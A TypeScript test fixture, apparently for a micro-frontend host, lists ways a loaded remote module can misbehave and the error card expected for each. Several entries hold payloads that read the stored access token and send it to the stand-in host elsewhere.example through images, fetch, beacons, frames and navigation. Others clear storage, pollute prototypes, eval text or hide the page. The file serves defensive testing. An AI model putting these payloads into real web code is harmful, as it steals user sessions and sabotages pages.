import type { RemoteOnPage } from '@dmp/contract/release'
import type { Fault } from './brokenRemotes.ts'

/** Where a part would like to send people, and what it knows. */
export const elsewhere = 'https://elsewhere.example'

/**
 * One way in which a part that is loaded can do harm, and the line that is expected of the page: what people see in its
 * place, and what its release is told of. Without a card, the part's own screen is there.
 */
export interface BadWay {
  readonly name: string
  /** Run once, before the part's own modules. */
  readonly atImport?: string
  /** Run at each drawing, before the part's own screen is made. */
  readonly drawing?: string
  /** What is drawn, made from `element`, the part's own. */
  readonly draws?: string
  /** What the module exports, made from `made`. */
  readonly exports?: string
  readonly card?: 'evaluation' | 'render' | 'unready' | 'module' | 'hides'
  readonly told?: string
  /** The page asks before it goes there. */
  readonly asks?: true
}

const hides = '*{display:none !important}'
const token = "JSON.parse(localStorage.getItem('authData')).accessToken"
const once = (code: string): string => `if (!window[way]) { window[way] = 1; ${code} }`
const within = (type: string, props: string): string =>
  `({ ...element, type: 'div', key: null, props: { children: [{ ...element, key: 'own' }, { ...element, type: '${type}', key: 'way', props: ${props} }] } })`

export const badWays: readonly BadWay[] = [
  { name: 'throws at import', atImport: "throw new Error('bad way')", card: 'evaluation', told: 'evaluation' },
  { name: 'throws while it draws', drawing: "throw new Error('bad way')", card: 'render', told: 'error' },
  {
    name: 'throws in an effect',
    draws: within('i', "{ ref() { throw new Error('bad way') } }"),
    card: 'render',
    told: 'error',
  },
  { name: 'never becomes ready', drawing: 'throw new Promise(() => undefined)', card: 'unready', told: 'unready' },
  { name: 'draws nothing', draws: 'null', card: 'unready', told: 'unready' },
  { name: 'exports something else', exports: '{ Application: made.App }', card: 'module', told: 'module' },
  { name: 'exports 42', exports: '{ App: 42 }', card: 'module', told: 'module' },
  {
    name: 'hides everything by a style element that it makes',
    drawing: once(`document.head.append(Object.assign(document.createElement('style'), { textContent: '${hides}' }))`),
  },
  {
    name: 'hides everything by a style that it draws',
    draws: within('style', `{ children: '${hides}' }`),
    card: 'hides',
    told: 'error',
  },
  {
    name: 'hides the page by hand',
    drawing: once("document.body.style.display = 'none'; document.getElementById('root').hidden = true"),
    card: 'hides',
    told: 'error',
  },
  {
    name: 'hides everything by a style in markup',
    drawing: once(`try { document.body.insertAdjacentHTML('beforeend', '<style>${hides}</style>') } catch {}`),
  },
  {
    name: 'replaces Array.prototype.map',
    atImport: 'Array.prototype.map = () => []',
    card: 'evaluation',
    told: 'evaluation',
  },
  { name: 'replaces Promise', atImport: 'window.Promise = class {}' },
  { name: 'adds to every object', atImport: "Object.prototype.reach = 'all'" },
  {
    name: 'replaces pushState',
    atImport: 'history.pushState = History.prototype.pushState = () => undefined',
    card: 'evaluation',
    told: 'evaluation',
  },
  { name: 'replaces fetch', atImport: "window.fetch = () => Promise.reject(new TypeError('bad way'))" },
  {
    name: 'replaces the setter of titles',
    atImport: "try { Object.defineProperty(Document.prototype, 'title', { set() {} }) } catch {}",
  },
  { name: 'clears what is stored', atImport: 'localStorage.clear(); sessionStorage.clear()' },
  {
    name: 'takes the session away',
    atImport: "localStorage.removeItem('authData')",
    card: 'evaluation',
    told: 'evaluation',
  },
  {
    name: 'sends people to another site later',
    atImport: `setTimeout(() => location.assign('${elsewhere}/'), 300)`,
    asks: true,
  },
  { name: 'sends the token by navigation', atImport: `location.href = '${elsewhere}/?' + ${token}`, asks: true },
  { name: 'sends the token by a window', atImport: `window.open('${elsewhere}/?' + ${token})`, asks: true },
  {
    name: 'sends the token by a link',
    atImport: `Object.assign(document.createElement('a'), { href: '${elsewhere}/?' + ${token}, target: '_blank' }).click()`,
    asks: true,
  },
  { name: 'sends the token by a picture', atImport: `new Image().src = '${elsewhere}/?' + ${token}` },
  { name: 'sends the token by a call', atImport: `fetch('${elsewhere}/?' + ${token}).catch(() => undefined)` },
  { name: 'sends the token by a beacon', atImport: `navigator.sendBeacon('${elsewhere}/', ${token})` },
  {
    name: 'sends the token by a frame',
    atImport: `document.body.append(Object.assign(document.createElement('iframe'), { src: '${elsewhere}/?' + ${token} }))`,
  },
  {
    name: 'rejects ten thousand promises',
    atImport: "for (let n = 0; n < 10000; n += 1) Promise.reject(new Error('bad way'))",
    told: 'error',
  },
  { name: 'makes code of text', atImport: "eval('window.wasForged = true')", card: 'evaluation', told: 'evaluation' },
  {
    name: 'makes a script of text',
    atImport:
      "document.head.append(Object.assign(document.createElement('script'), { text: 'window.wasForged = true' }))",
    card: 'evaluation',
    told: 'evaluation',
  },
  {
    name: 'makes a handler of text',
    atImport: "document.body.setAttribute('onclick', 'window.wasForged = true'); document.body.click()",
    card: 'evaluation',
    told: 'evaluation',
  },
  {
    name: 'stays when it is left: timer, title and keys',
    drawing: once(
      "setInterval(() => { document.title = 'bad way' }, 20); addEventListener('keydown', (event) => { event.preventDefault(); event.stopImmediatePropagation() }, true)",
    ),
  },
]

/** The release whose first script does this. */
export const toFault = ({
  name,
  atImport = '',
  drawing = '',
  draws = 'element',
  exports = '{ ...made, App }',
}: BadWay): Fault => ({
  name,
  word: 'evaluation',
  script: (text: string, { declaration }: RemoteOnPage) => `${text}
;(() => {
  const global = '${declaration.name.replaceAll('-', '_')}'
  const way = 'way_' + global
  const { init, get } = window[global]
  const wrapped = (factory) => () => {
    ;(() => { ${atImport} })()
    const made = factory()
    const App = (props) => {
      ${drawing}
      const element = made.App(props)
      return ${draws}
    }
    return ${exports}
  }
  const getWrapped = (module) => get(module).then((factory) => (module === './App' ? wrapped(factory) : factory))
  window[global] = { init, get: getWrapped }
})()`,
})
